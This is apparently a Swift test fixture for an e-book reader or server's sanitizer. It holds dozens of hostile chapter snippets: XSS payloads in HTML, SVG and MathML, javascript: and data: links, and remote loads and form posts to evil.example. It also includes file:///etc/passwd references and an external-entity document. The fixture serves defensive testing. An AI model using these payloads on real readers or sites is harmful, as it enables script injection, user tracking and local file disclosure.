import TestSupport

/// Documents of e-books that want to run, load, send or take over something where their pages are shown.
enum HostileChapters {
    /// Each stands in a document of its own. Those that are not well-formed are mended by the server.
    static let all: [TestEbooks.Chapter] =
        (scripts + frames + drawings + formulas + links + remote + markup + broken).enumerated().map {
            TestEbooks.Chapter("Chapter \($0)", body: "<p>before \($0)</p>\($1)<p>after \($0)</p>")
        } + whole.enumerated().map { TestEbooks.Chapter("Whole \($0)", document: $1) }

    /// What runs where it is shown as it stands, each with its own number: so that the proof can fail.
    static let controls = [
        #"<script>alert("c0")</script>"#, #"<svg><script>alert("c1")</script></svg>"#,
        #"<math><annotation-xml encoding="text/html"><img src="/x" onerror='alert("c2")'/></annotation-xml></math>"#,
        #"<p onmouseover='alert("c3")'>x</p>"#, #"<img src="http://evil.example/asked4"/>"#,
        #"<svg><image href="http://evil.example/asked5"/></svg>"#,
        #"<p style="background: url(http://evil.example/asked6)">x</p>"#,
        #"<iframe src="http://evil.example/asked7"></iframe>"#,
        #"<video poster="http://evil.example/asked8"></video>"#,
    ]

    private static let scripts = [
        #"<script>alert(1)</script>"#, #"<script type="text/javascript"><![CDATA[ alert(1) ]]></script>"#,
        #"<script src="http://evil.example/x.js"/>"#, #"<script src="evil.js"/>"#, #"<SCRIPT>alert(1)</SCRIPT>"#,
        #"<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>"#,
        #"<x:script xmlns:x="urn:nothing">alert(1)</x:script>"#, #"<p onclick="alert(1)" onmouseover="alert(1)">x</p>"#,
        #"<p xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="click" ev:handler="javascript:alert(1)">x</p>"#,
        #"<p x:onclick="alert(1)" xmlns:x="http://www.w3.org/1999/xhtml">x</p>"#, #"<p ONCLICK="alert(1)">x</p>"#,
        #"<noscript><p title="&lt;/noscript>&lt;img src=x onerror=alert(1)>">x</p></noscript>"#,
        #"<template><script>alert(1)</script><p onclick="alert(1)">x</p></template>"#,
        #"<details open="open" ontoggle="alert(1)"><summary>x</summary>y</details>"#,
        #"<input autofocus="autofocus" onfocus="alert(1)"/>"#, #"<listing>&lt;img src=x onerror=alert(1)></listing>"#,
        #"<xmp>&lt;script>alert(1)&lt;/script></xmp>"#, #"<plaintext>&lt;script>alert(1)&lt;/script></plaintext>"#,
        #"<title>&lt;/title>&lt;script>alert(1)&lt;/script></title>"#,
        #"<textarea>&lt;/textarea>&lt;script>alert(1)&lt;/script></textarea>"#,
        #"<epub:trigger xmlns:epub="http://www.idpf.org/2007/ops" action="alert(1)" ev:event="click" xmlns:ev="http://www.w3.org/2001/xml-events">x</epub:trigger>"#,
        #"<epub:switch xmlns:epub="http://www.idpf.org/2007/ops"><epub:case required-namespace="http://www.w3.org/1998/Math/MathML"><script>alert(1)</script></epub:case><epub:default><img src="x" onerror="alert(1)"/></epub:default></epub:switch>"#,
    ]

    private static let frames = [
        #"<iframe src="http://evil.example/frame"></iframe>"#, #"<iframe src="javascript:alert(1)"></iframe>"#,
        #"<iframe srcdoc="&lt;script>alert(1)&lt;/script>"></iframe>"#,
        #"<object data="http://evil.example/x.swf" type="text/html">x</object>"#,
        #"<object data="data:text/html,&lt;script>alert(1)&lt;/script>">x</object>"#,
        #"<embed src="http://evil.example/x" type="text/html"/>"#, #"<applet code="X">x</applet>"#,
        #"<form action="http://evil.example/take"><input name="a" value="b"/><button>x</button></form>"#,
        #"<form id="f"/><button form="f" formaction="javascript:alert(1)">x</button>"#,
        #"<frameset onload="alert(1)"><frame src="http://evil.example/"/></frameset>"#,
        #"<portal src="http://evil.example/"/>"#, #"<isindex action="http://evil.example/"/>"#,
        #"<dialog open="open"><form method="dialog"><button>x</button></form></dialog>"#,
    ]

    private static let drawings = [
        #"<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><text>x</text></svg>"#,
        #"<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><text>x</text></svg>"#,
        #"<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"><script>alert(1)</script><p onclick="alert(1)">x</p></body></foreignObject></svg>"#,
        #"<svg xmlns="http://www.w3.org/2000/svg"><image xlink:href="http://evil.example/spy.png"/><title>t</title></svg>"#,
        #"<svg xmlns="http://www.w3.org/2000/svg"><use xlink:href="http://evil.example/x.svg#y"/></svg>"#,
        #"<svg xmlns="http://www.w3.org/2000/svg"><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>"#,
        #"<svg xmlns="http://www.w3.org/2000/svg"><animate attributeName="href" values="javascript:alert(1)"/><set attributeName="onclick" to="alert(1)"/></svg>"#,
        #"<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(http://evil.example/x.css);</style><desc>&lt;img src=x onerror=alert(1)></desc></svg>"#,
        #"<svg xmlns="http://www.w3.org/2000/svg"><text>&lt;script>alert(1)&lt;/script></text></svg>"#,
        #"<svg:svg xmlns:svg="http://www.w3.org/2000/svg"><svg:script>alert(1)</svg:script><svg:text onclick="alert(1)">x</svg:text></svg:svg>"#,
        #"<img src="a.svg" alt="&quot; onerror=&quot;alert(1)"/>"#, #"<image src="x" onerror="alert(1)"/>"#,
    ]

    private static let formulas = [
        #"<math xmlns="http://www.w3.org/1998/Math/MathML"><maction actiontype="statusline#http://evil.example/" xlink:href="javascript:alert(1)"><mi>x</mi></maction></math>"#,
        #"<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:alert(1)"><mi href="javascript:alert(1)" onclick="alert(1)">x</mi></math>"#,
        #"<math xmlns="http://www.w3.org/1998/Math/MathML"><semantics><mi>x</mi><annotation-xml encoding="text/html"><img xmlns="http://www.w3.org/1999/xhtml" src="http://evil.example/m.png" onerror="alert(1)"/><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script></annotation-xml></semantics></math>"#,
        #"<math xmlns="http://www.w3.org/1998/Math/MathML"><annotation-xml encoding="application/xhtml+xml"><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/></annotation-xml></math>"#,
        #"<math xmlns="http://www.w3.org/1998/Math/MathML"><annotation>&lt;img src=x onerror=alert(1)></annotation><mi>y</mi></math>"#,
        #"<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><img src="x" onerror="alert(1)"/><style>&lt;img src=x onerror=alert(1)></style></mtext></math>"#,
        #"<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext>&lt;/mtext>&lt;img src=x onerror=alert(1)></mtext></math>"#,
        #"<math xmlns="http://www.w3.org/1998/Math/MathML"><mi><table><mglyph><style>&lt;img src=x onerror=alert(1)></style></mglyph></table></mi></math>"#,
        #"<math xmlns="http://www.w3.org/1998/Math/MathML"><mglyph src="http://evil.example/g.png" alt="g"/><malignmark/><mi>z</mi></math>"#,
        #"<math xmlns="http://www.w3.org/1998/Math/MathML"><mstyle style="background:url(http://evil.example/s.png)" mathbackground="url(http://evil.example/b.png)"><mi>w</mi></mstyle></math>"#,
        #"<math xmlns="http://www.w3.org/1998/Math/MathML" alttext="&quot;>&lt;script>alert(1)&lt;/script>"><mi>v</mi></math>"#,
        #"<math xmlns="http://www.w3.org/1998/Math/MathML"><mfenced open="&lt;script>alert(1)&lt;/script>"><mi>u</mi></mfenced></math>"#,
        #"<math xmlns="http://www.w3.org/1998/Math/MathML"><ms lquote="&lt;img src=x onerror=alert(1)>">t</ms></math>"#,
    ]

    private static let links =
        [
            "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java&#9;script:alert(1)",
            "java&#10;script:alert(1)", "&#1;javascript:alert(1)", "javascript&#58;alert(1)", "vbscript:msgbox(1)",
            "data:text/html,&lt;script>alert(1)&lt;/script>",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "file:///etc/passwd", "blob:x", "//evil.example/x", "\\\\evil.example\\x", "http://a@evil.example/",
            "view-source:x", "c0.xhtml#&quot; onclick=&quot;alert(1)", "c0.xhtml#x y", "?javascript:alert(1)",
            "http://evil.example/&quot;onclick=&quot;alert(1)", "#&lt;script>alert(1)&lt;/script>",
            "../../../../c0.xhtml",
        ].map { "<p><a href=\"\($0)\" target=\"_top\" ping=\"http://evil.example/ping\">link</a></p>" } + [
            #"<p><a xlink:href="javascript:alert(1)">x</a></p>"#, #"<map><area href="javascript:alert(1)"/></map>"#,
            #"<p><a href="http://evil.example/" onclick="alert(1)" style="position:fixed" download="x">x</a></p>"#,
            #"<blockquote cite="javascript:alert(1)"><p>x</p></blockquote>"#,
            #"<p id="&quot;>&lt;script>alert(1)&lt;/script>">x</p>"#,
            #"<p lang="&quot; onclick=&quot;alert(1)">x</p>"#, #"<p dir="&quot; onclick=&quot;alert(1)">x</p>"#,
            #"<p class="x&quot; onclick=&quot;alert(1)">x</p>"#,
            #"<abbr title="&quot; onclick=&quot;alert(1)">x</abbr>"#,
        ]

    private static let remote = [
        #"<img src="http://evil.example/spy.png" alt="s"/>"#,
        #"<img src="//evil.example/spy.png" srcset="http://evil.example/2x.png 2x"/>"#,
        #"<picture><source srcset="http://evil.example/p.png"/><img src="http://evil.example/q.png"/></picture>"#,
        #"<video src="http://evil.example/v.mp4" poster="http://evil.example/v.png" autoplay="autoplay"/>"#,
        #"<audio src="http://evil.example/a.mp3" autoplay="autoplay"/>"#,
        #"<bgsound src="http://evil.example/b.mp3"/>"#,
        #"<table background="http://evil.example/t.png"><tr><td background="http://evil.example/d.png">x</td></tr></table>"#,
        #"<p style="background-image: url(http://evil.example/s.png)">x</p>"#,
        #"<style>@import url(http://evil.example/x.css); p { background: url(http://evil.example/y.png) }</style>"#,
        #"<link rel="stylesheet" href="http://evil.example/z.css"/>"#,
        #"<link rel="prefetch" href="http://evil.example/pre"/>"#,
        #"<meta http-equiv="refresh" content="0;url=http://evil.example/taken"/>"#,
        #"<base href="http://evil.example/"/><img src="based.png"/>"#,
        #"<img src="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"/>"#,
        #"<img src="javascript:alert(1)"/>"#, #"<input type="image" src="http://evil.example/i.png"/>"#,
        #"<track src="http://evil.example/t.vtt"/>"#,
        #"<ul style="list-style-image: url(http://evil.example/l.png)"><li>x</li></ul>"#,
        #"<p style="text-align: center; background: url(http://evil.example/c.png)">x</p>"#,
    ]

    private static let markup = [
        "<p>&lt;script>alert(1)&lt;/script></p>", "<p>&#60;img src=x onerror=alert(1)&#62;</p>",
        "<p>&amp;lt;script&amp;gt;alert(1)</p>", "<p><![CDATA[<script>alert(1)</script>]]></p>",
        "<p><![CDATA[<img src=x onerror=alert(1)>]]]]><![CDATA[>]]></p>",
        "<p>x<!-- --><!-- <script>alert(1)</script> -->y</p>",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<?php echo '<script>alert(1)</script>' ?>",
        "<?xml-stylesheet href=\"http://evil.example/pi.css\"?>",
        "<p>&lt;!--</p><p>--&gt;&lt;script>alert(1)&lt;/script></p>",
        "<pre>&lt;/pre>&lt;script>alert(1)&lt;/script></pre>", "<p>\u{2028}&lt;script>alert(1)&lt;/script>\u{202E}</p>",
        "<p>\u{FF1C}script\u{FF1E}alert(1)\u{FF1C}/script\u{FF1E}</p>", "<p>&lt;\u{338}script>alert(1)</p>",
        "<x:p xmlns:x=\"http://www.w3.org/1999/xhtml\" onclick=\"alert(1)\">x</x:p>",
        "<html xmlns=\"http://www.w3.org/1999/xhtml\"><body onload=\"alert(1)\"><p>nested</p></body></html>",
        "<p>\u{1}/../../evil</p>", "<p>&#1;&#x1;</p>", "<ruby>x<rt>&lt;img src=x onerror=alert(1)></rt></ruby>",
        "<h1><script>alert(1)</script>&lt;b onclick=alert(1)></h1>",
    ]

    private static let broken = [
        "<p><script>alert(1)</p>", "<p onclick=alert(1)>x", "<p>x<a href=javascript:alert(1)>y<p>z",
        "<svg onload=alert(1)//",
        "<div><textarea><p>swallowed", "<table><script>alert(1)</script><td onclick=alert(1)>x",
        "<p>&nosuch;<b onclick='x>y",
        "</div></div></body></html><script>alert(1)</script>", "<p>x<!-- <p>y", "<img src=x onerror=alert(1)",
        "<style><p>x",
        "<p \"onclick=alert(1)\">x</p>", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<svg><p><style><img src=\"</style><img src=x onerror=alert(1)>\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    ]

    /// Documents that are themselves hostile.
    private static let whole = [
        """
        <!DOCTYPE html [<!ENTITY x "&#60;script>alert(1)&#60;/script>"><!ENTITY y SYSTEM "file:///etc/passwd">]>
        <html xmlns="http://www.w3.org/1999/xhtml"><head><title>t</title></head><body><p>&x; &y; whole</p></body></html>
        """,
        """
        <?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?>
        <html xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"><head><script>alert(1)</script><base href="http://evil.example/"/>
        <meta http-equiv="refresh" content="0;url=http://evil.example/"/></head><body onload="alert(1)" background="http://evil.example/b"><p>whole</p></body></html>
        """,
        """
        <html><head><title></title><script>alert(1)</script></title></head><body><frameset onload=alert(1)><p>whole</body></html>
        """,
        """
        <svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script><text>whole</text></svg>
        """,
        """
        <h:html xmlns:h="http://www.w3.org/1999/xhtml"><h:body><h:script>alert(1)</h:script><h:p h:onclick="alert(1)">whole</h:p></h:body></h:html>
        """,
    ]
}
